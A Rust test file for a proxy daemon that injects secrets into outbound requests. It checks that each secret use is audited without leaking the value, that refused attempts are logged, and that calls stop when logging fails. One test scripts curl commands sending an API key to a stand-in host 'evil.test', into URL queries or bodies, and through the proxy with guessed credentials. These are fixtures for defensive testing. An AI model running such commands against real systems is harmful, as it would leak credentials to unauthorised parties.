//! Each use is in the record of decisions before the value goes out: no record, no use.

use std::time::{Duration, Instant};

use serde_json::Value;
use skep_test_support::Request;

use super::world::{World, said};
use crate::values::{PLAIN, VALUE, assert_no_value};

async fn entries(world: &World, action: &str) -> Vec<Value> {
    let all = world.daemon.record_whole(&world.owner.token("owner")).await;
    all.into_iter()
        .filter(|entry| entry["action"] == action)
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn x01_each_use_is_recorded_without_value_name_or_path() {
    let world = World::start().await;
    let script = r#"
        curl -sS -H "Authorization: Bearer $KEY" "https://api.test/echo/secretpath?q=secretquery"
        curl -sS -H "x-api-key: $KEY" https://deep.wild.test/echo
        curl -sS -H "Authorization: $OTHER" https://other.test/echo
        curl -sS https://api.test/echo"#;
    let ran = world.sh(script).await;
    assert_eq!(world.origin.got().len(), 4, "{}", said(&ran));
    let uses = entries(&world, "secret.use").await;
    assert_eq!(uses.len(), 3, "{uses:?}");
    let mut prints = Vec::new();
    for (entry, host) in
        uses.iter()
            .rev()
            .zip(["api.test:443", "deep.wild.test:443", "other.test:443"])
    {
        let text = entry.to_string();
        assert_no_value("the record", &text);
        assert!(
            !text.contains("secretpath") && !text.contains("secretquery"),
            "{text}"
        );
        assert_eq!(entry["outcome"], "allowed", "{text}");
        let reason = entry["reason"].as_str().unwrap();
        assert!(reason.starts_with("template api; secret "), "{reason}");
        assert!(reason.ends_with(&format!("; to {host}")), "{reason}");
        assert!(
            entry["target"].as_str().unwrap().starts_with("lse_"),
            "{text}"
        );
        assert!(!entry["credential"].is_null(), "{text}");
        prints.push(reason.split("; ").nth(1).unwrap().to_owned());
    }
    assert_eq!(prints[0], prints[1]);
    assert_ne!(prints[0], prints[2]);
    let token = world.owner.token("owner");
    let request = Request::new("GET", "/api/v1/secrets").bearer(&token);
    let list = request.send(world.daemon.address).await.unwrap().json();
    let marks = list["items"].as_array().unwrap().iter();
    let marks: Vec<String> = marks
        .map(|item| format!("secret {}", item["mark"].as_str().unwrap()))
        .collect();
    for print in prints {
        assert!(marks.contains(&print), "{print}: {marks:?}");
        assert!(!print.contains("key"), "{print}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn x03_what_was_tried_and_refused_is_recorded() {
    let world = World::start().await;
    let script = r#"
        curl -sS "https://api.test/echo?k=$KEY"
        curl -sS -H "Authorization: $KEY" https://other.test/echo
        curl -sS -H "Authorization: $KEY" https://evil.test/echo
        curl -sS -d "$KEY" https://api.test/echo
        curl -sS -x "http://skep:guess@${HTTPS_PROXY#*@}" https://api.test/echo"#;
    world.sh(script).await;
    let refused = entries(&world, "wire.refuse").await;
    let mut reasons: Vec<&str> = refused
        .iter()
        .filter_map(|entry| entry["reason"].as_str())
        .collect();
    reasons.sort_unstable();
    let expected = [
        "host",
        "placeholder_in_body",
        "placeholder_in_url",
        "placeholder_to_host",
        "unauthenticated",
    ];
    assert_eq!(reasons, expected, "{refused:?}");
    assert!(
        refused.iter().all(|entry| entry["outcome"] == "denied"),
        "{refused:?}"
    );
    // In the name of whoever began the lease.
    let whose = |entry: &Value| entry["principal"].is_string() && entry["credential"].is_string();
    assert!(refused.iter().all(whose), "{refused:?}");
    assert_eq!(entries(&world, "secret.use").await, Vec::<Value>::new());
    assert!(
        world
            .origin
            .got()
            .iter()
            .all(|got| !format!("{got:?}").contains(VALUE))
    );
    assert!(
        world
            .origin
            .got()
            .iter()
            .all(|got| !format!("{got:?}").contains(PLAIN))
    );
}

#[tokio::test(flavor = "multi_thread")]
#[expect(
    clippy::disallowed_methods,
    reason = "how long a program waits is wall time"
)]
async fn x03_what_cannot_be_recorded_does_not_happen() {
    let world = World::start().await;
    let mut running = world.begun(world.calling()).await;
    assert!(running.call().await.contains("__skep_key__"));
    let held = world.daemon.hold_the_record().await;
    let begun = Instant::now();
    let said = running.call().await;
    assert!(said.contains("\"reason\":\"unavailable\""), "{said}");
    assert!(
        begun.elapsed() < Duration::from_secs(3),
        "{:?}",
        begun.elapsed()
    );
    assert_eq!(world.origin.got().len(), 1);
    drop(held);
    assert!(
        running
            .call()
            .await
            .contains("authorization: Bearer __skep_key__")
    );
    assert_eq!(world.origin.got().len(), 2);
}

/// Milliseconds of requests over one connection, the median and the 95th percentile.
fn of(text: &str) -> (f64, f64) {
    let mut all: Vec<f64> = text.lines().filter_map(|line| line.parse().ok()).collect();
    all.sort_by(f64::total_cmp);
    let at = |part: f64| all[((all.len() - 1) as f64 * part) as usize] * 1_000.0;
    (at(0.5), at(0.95))
}

/// `cargo nextest run -p skep-cli --run-ignored only --no-capture what_a_use_costs`
#[tokio::test(flavor = "multi_thread")]
#[ignore = "a measurement"]
async fn what_a_use_costs() {
    let world = World::start().await;
    let calls = |header: &str| {
        format!(
            "curl -sS -o /dev/null -w '%{{time_total}}\\n' {header} 'https://api.test/none?n=[1-500]'"
        )
    };
    for (what, header) in [
        ("without a value", ""),
        ("with a value", r#"-H "Authorization: Bearer $KEY""#),
        ("without a value", ""),
        ("with a value", r#"-H "Authorization: Bearer $KEY""#),
    ] {
        let ran = world.sh(&calls(header)).await;
        let (median, slow) = of(&String::from_utf8_lossy(&ran.stdout));
        println!("{what}: median {median:.2} ms, p95 {slow:.2} ms");
    }
}
